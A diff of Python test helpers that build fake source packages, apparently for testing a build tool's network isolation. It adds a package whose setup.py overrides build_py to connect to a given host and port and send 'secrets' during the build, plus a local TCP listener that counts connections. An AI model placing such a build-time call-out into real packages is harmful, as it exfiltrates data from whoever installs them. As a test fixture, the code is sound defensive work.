@@ -8,6 +8,7 @@ import subprocess
 import sys
 import tarfile
 import textwrap
+import threading
 import time
 from pathlib import Path
 
@@ -39,22 +40,27 @@ def write_sdist(dest: Path, name: str, version: str, files: dict[str, str]) -> P
     return path
 
 
+def pyproject(name: str, version: str, requires: str, backend: str, dependencies: list[str] = ()) -> str:
+    deps = ", ".join(f'"{r}"' for r in dependencies)
+    return f"""\
+        [build-system]
+        requires = ["{requires}"]
+        build-backend = "{backend}"
+
+        [project]
+        name = "{name}"
+        version = "{version}"
+        description = "a test package"
+        dependencies = [{deps}]
+        """
+
+
 def setuptools_sdist(dest: Path, name: str, version: str, *, module: str | None = None, code: str = "VALUE = 1\n",
                      requires: list[str] = (), setup_py: str | None = None, extra: dict[str, str] | None = None) -> Path:
     module = module or name.replace("-", "_")
-    deps = ", ".join(f'"{r}"' for r in requires)
     files = {
         "PKG-INFO": pkg_info(name, version, requires),
-        "pyproject.toml": f"""\
-            [build-system]
-            requires = ["setuptools>=70"]
-            build-backend = "setuptools.build_meta"
-
-            [project]
-            name = "{name}"
-            version = "{version}"
-            dependencies = [{deps}]
-            """,
+        "pyproject.toml": pyproject(name, version, "setuptools>=70", "setuptools.build_meta", requires),
         f"{module}.py": code,
     }
     if setup_py:
@@ -78,21 +84,49 @@ def c_extension_sdist(dest: Path, name: str, version: str) -> Path:
 
 
 def flit_sdist(dest: Path, name: str, version: str, code: str = "VALUE = 1\n") -> Path:
-    module = name.replace("-", "_")
     return write_sdist(dest, name, version, {
         "PKG-INFO": pkg_info(name, version),
-        "pyproject.toml": f"""\
-            [build-system]
-            requires = ["flit_core>=3.4,<4"]
-            build-backend = "flit_core.buildapi"
-
-            [project]
-            name = "{name}"
-            version = "{version}"
-            description = "a pure-Python test package"
-            """,
-        f"{module}.py": code,
+        "pyproject.toml": pyproject(name, version, "flit_core>=3.4,<4", "flit_core.buildapi"),
+        f"{name.replace('-', '_')}.py": code,
     })
+
+
+def calling_out_sdist(dest: Path, name: str, version: str, host: str, port: int) -> Path:
+    """A package whose build connects to host:port and fails if it cannot."""
+    return setuptools_sdist(dest, name, version, setup_py=f"""\
+        import socket
+        from setuptools import setup
+        from setuptools.command.build_py import build_py
+
+        class CallOut(build_py):
+            def run(self):
+                socket.create_connection(("{host}", {port}), timeout=5).sendall(b"secrets")
+                super().run()
+
+        setup(cmdclass={{"build_py": CallOut}})
+        """)
+
+
+class Listener:
+    """A TCP server that counts the connections it accepts."""
+
+    def __init__(self, host: str = "127.0.0.1"):
+        self.accepted = []
+        self.socket = socket.socket()
+        self.socket.bind((host, 0))
+        self.socket.listen()
+        self.port = self.socket.getsockname()[1]
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self):
+        try:
+            while True:
+                self.accepted.append(self.socket.accept())
+        except OSError:
+            pass
+
+    def close(self):
+        self.socket.close()
 
 
 class Upstream:
